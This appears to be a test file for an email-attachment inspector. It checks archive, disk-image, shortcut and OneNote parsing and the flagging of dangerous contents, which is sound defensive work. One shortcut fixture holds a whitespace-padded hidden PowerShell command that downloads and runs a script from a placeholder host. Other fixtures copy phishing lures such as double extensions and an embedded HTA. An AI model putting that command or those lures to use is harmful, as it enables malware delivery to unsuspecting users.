import assert from 'node:assert/strict';
import { gzipSync } from 'node:zlib';
import { test } from 'node:test';
import fc from 'fast-check';
import { decodeLzma, decodeLzma2 } from '../../src/attach/lzma.ts';
import { attach, exe, flags, one, pdf, zip } from './build.ts';
import { cab, disk, iso, lnk, lzmaLiterals, oneNote, rar4, rar5, sevenZip, tar } from './build-archives.ts';
import { inspectFiles } from '../../src/attach/inspect.ts';

const LETTERS = Array.from({ length: 300 }, (_, i) => String.fromCharCode(97 + (i * 7) % 26)).join('');
const REPEATED = `${'banya keeps the gate. '.repeat(40)}${LETTERS}${'banya keeps the gate again. '.repeat(9)}`;

test('LZMA and LZMA2 streams of another program, with matches and repeats, are read byte for byte', () => {
  // Written by Python's lzma module (liblzma 5) at preset 6 from the text above.
  const lzma = Buffer.from('5d00008000ffffffffffffffff0031184a22b066a7eb8e1210ce1591a90b6e68d9cd75cc950e9d1c79583a58a8d164752860e787537073936047cfc661b2797d7d8128f3130ad07488770bd60213047fc63ce6d98ceb0660ffffc0a0f000', 'hex');
  assert.equal(Buffer.from(decodeLzma(lzma.subarray(0, 5), lzma.subarray(13), 10_000)!).toString(), REPEATED);
  const lzma2 = Buffer.from('e00597004a5d0031184a22b066a7eb8e1210ce1591a90b6e68d9cd75cc950e9d1c79583a58a8d164752860e787537073936047cfc661b2797d7d8128f3130ad07488770bd60213047fc63ce6d98c4440c100', 'hex');
  assert.equal(Buffer.from(decodeLzma2(lzma2, 10_000)!).toString(), REPEATED);
});

test('LZMA gives no more than it is allowed and ends on any bytes', () => {
  const properties = Buffer.from('5d00000100', 'hex');
  fc.assert(fc.property(fc.uint8Array({ maxLength: 600 }), (data) => {
    assert.deepEqual(Buffer.from(decodeLzma(properties, lzmaLiterals(data), data.length) ?? []), Buffer.from(data));
    assert.ok((decodeLzma(properties, data, 100_000)?.length ?? 0) <= 100_000);
    assert.ok((decodeLzma2(data, 100_000)?.length ?? 0) <= 100_000);
  }), { numRuns: 200 });
});

test('7z: names, contents and lock are read with a plain and a compressed header', async () => {
  for (const header of ['plain', 'lzma'] as const) {
    const bad = await one('a.7z', sevenZip({ files: [{ name: '資料/説明.txt', data: Buffer.from('hello') }, { name: '資料/写真.jpg', data: exe() }], header }));
    assert.deepEqual(bad.entries, ['資料/説明.txt', '資料/写真.jpg']);
    assert.deepEqual(flags(bad), ['archive', 'dangerous_inside', 'type_mismatch']);
    const locked = await one('a.7z', sevenZip({ files: [{ name: '見積.xlsx' }], locked: true, header }));
    assert.deepEqual([flags(locked), locked.entries, locked.troubles], [['archive', 'encrypted_archive'], ['見積.xlsx'], []]);
    assert.deepEqual(flags(await one('a.7z', sevenZip({ files: [{ name: 'a.txt', data: Buffer.from('a') }], header }))), ['archive']);
  }
});

test('7z: names that are hidden by the password are told as such', async () => {
  const facts = await one('a.7z', sevenZip({ files: [{ name: 'a.exe' }], locked: true, header: 'aes' }));
  assert.deepEqual([flags(facts), facts.entries, facts.troubles], [['archive', 'encrypted_archive'], [], []]);
});

test('7z: a lie about sizes costs neither memory nor the names', async () => {
  const before = process.memoryUsage().rss;
  const facts = await one('a.7z', sevenZip({ files: [{ name: 'a.exe' }], declared: 0xfffffff0 }));
  assert.deepEqual(facts.entries, ['a.exe']);
  const cut = sevenZip({ files: [{ name: 'a.exe' }] });
  cut.writeBigUInt64LE(2n ** 50n, 20);
  assert.deepEqual((await one('a.7z', cut)).troubles, ['broken_container']);
  assert.ok(process.memoryUsage().rss - before < 64 * 1024 * 1024);
});

test('RAR 4 and 5: names, locks and stored contents are read', async () => {
  for (const rar of [rar4, rar5]) {
    assert.deepEqual((await one('a.rar', rar([{ name: '請求書.pdf.exe' }, { name: 'b.txt' }]))).entries, ['請求書.pdf.exe', 'b.txt']);
    assert.deepEqual(flags(await one('a.rar', rar([{ name: '資料.txt', data: exe() }]))), ['archive', 'dangerous_inside', 'type_mismatch']);
    assert.deepEqual(flags(await one('a.rar', rar([{ name: '資料.txt' }]))), ['archive']);
    const locked = await one('a.rar', rar([{ name: '資料.xlsx', locked: true }]));
    assert.deepEqual([flags(locked), locked.troubles], [['archive', 'encrypted_archive'], []]);
    const hidden = await one('a.rar', rar([{ name: 'a.exe' }], true));
    assert.deepEqual([flags(hidden), hidden.entries], [['archive', 'encrypted_archive'], []]);
  }
});

test('gzip, tar and cabinet show what they hold', async () => {
  assert.deepEqual(flags(await one('a.tar.gz', gzipSync(tar([{ name: 'doc/a.txt', data: 'x' }])))), ['archive', 'nested_archive']);
  const bad = await one('a.tgz', gzipSync(tar([{ name: 'doc/run.js', data: 'x' }, { name: 'b.bin', data: exe() }])));
  assert.deepEqual(bad.entries, ['a.tar', 'a.tar/doc/run.js', 'a.tar/b.bin']);
  assert.ok(bad.flags.includes('dangerous_inside'));
  assert.deepEqual(flags(await one('a.cab', cab(['a.txt', '画像.png']))), ['archive']);
  assert.deepEqual(flags(await one('a.cab', cab(['dir\\a.vbs']))), ['archive', 'dangerous_inside']);
});

test('disk images are told, and what a CD image holds, by its long names', async () => {
  const bad = await one('請求書.iso', iso([{ name: '請求書（至急）.lnk', data: lnk({ path: 'C:\\Windows\\System32\\cmd.exe' }) }, { name: 'readme.txt', data: Buffer.from('hello') }]));
  assert.deepEqual(bad.entries, ['請求書（至急）.lnk', 'readme.txt']);
  assert.deepEqual(flags(bad), ['dangerous_inside', 'disk_image']);
  assert.deepEqual((await one('a.iso', iso([{ name: 'setup.exe', data: exe() }], false))).entries, ['SETUP.EXE']);
  assert.deepEqual(flags(await one('a.iso', iso([{ name: 'readme.txt', data: Buffer.from('hello') }]))), ['disk_image']);
  for (const kind of ['img', 'vhd'] as const) assert.deepEqual([(await one(`a.${kind}`, disk(kind))).realType, flags(await one(`a.${kind}`, disk(kind)))], [kind, ['disk_image']]);
  assert.deepEqual(flags(await one('a.zip', zip([{ name: 'a.raw', data: disk('vhd') }]))), ['archive', 'dangerous_inside']);
});

test('a shortcut tells its program, its arguments and where they lead', async () => {
  const bad = await one('請求書.pdf.lnk', lnk({ path: 'C:\\Windows\\System32\\cmd.exe', parameters: `${' '.repeat(300)}/c powershell -w hidden iwr http://load.example/a.ps1 | iex` }));
  assert.deepEqual(flags(bad), ['double_extension', 'shortcut']);
  assert.ok(bad.words.includes('powershell'));
  assert.ok(bad.words.some((word) => word.includes('cmd.exe')));
  assert.deepEqual(bad.links, ['http://load.example/a.ps1']);
  const good = await one('共有.lnk', lnk({ path: 'D:\\docs\\report.docx' }));
  assert.deepEqual([flags(good), good.links], [['shortcut'], []]);
  assert.deepEqual((await one('a.lnk', lnk({ icon: '\\\\icons.example\\s\\a.ico' }))).links, ['file://icons.example/s/a.ico']);
});

test('internet shortcuts, libraries, calendars and contacts give their links', async () => {
  const url = await one('見積.url', '[InternetShortcut]\r\nURL=file://files.example/share/a.exe\r\nIconFile=\\\\files.example\\share\\a.ico\r\n');
  assert.deepEqual([flags(url), url.links], [['shortcut'], ['file://files.example/share/a.exe', 'file://files.example/share/a.ico']]);
  const library = await one('a.library-ms', '<?xml version="1.0"?><libraryDescription><simpleLocation><url>\\\\files.example\\dav\\x</url></simpleLocation></libraryDescription>');
  assert.deepEqual([flags(library), library.links], [['shortcut'], ['file://files.example/dav/x']]);
  const calendar = await one('招待.ics', 'BEGIN:VCALENDAR\r\nSUMMARY:会議\r\nDESCRIPTION:参加 https://meet.exam\r\n ple/abc\r\nEND:VCALENDAR\r\n', 'text/calendar');
  assert.deepEqual([flags(calendar), calendar.links], [[], ['https://meet.example/abc']]);
  assert.match(calendar.text, /会議/);
});

test('a notebook with an embedded program is told from a notebook', async () => {
  const bad = await one('案内.one', oneNote([{ name: '開く.hta', data: Buffer.from('<html><script>new ActiveXObject("WScript.Shell")</script>') }]));
  assert.deepEqual(flags(bad).filter((flag) => flag !== 'html_script'), ['dangerous_inside', 'embedded_object', 'onenote']);
  assert.ok(bad.entries.some((name) => name.endsWith('開く.hta')));
  assert.deepEqual(flags(await one('案内.one', oneNote([]))), ['onenote']);
});

test('several attachments are told one by one, in their order, with their hashes', async () => {
  const { files } = await inspectFiles([attach('a.pdf', pdf()), attach('b.zip', zip([{ name: 'x.txt', data: 'x' }])), attach('c.exe', exe())]);
  assert.deepEqual(files.map(({ name, realType }) => [name, realType]), [['a.pdf', 'pdf'], ['b.zip', 'zip'], ['c.exe', 'exe']]);
  assert.ok(files.every(({ sha256 }) => /^[0-9a-f]{64}$/.test(sha256)));
});
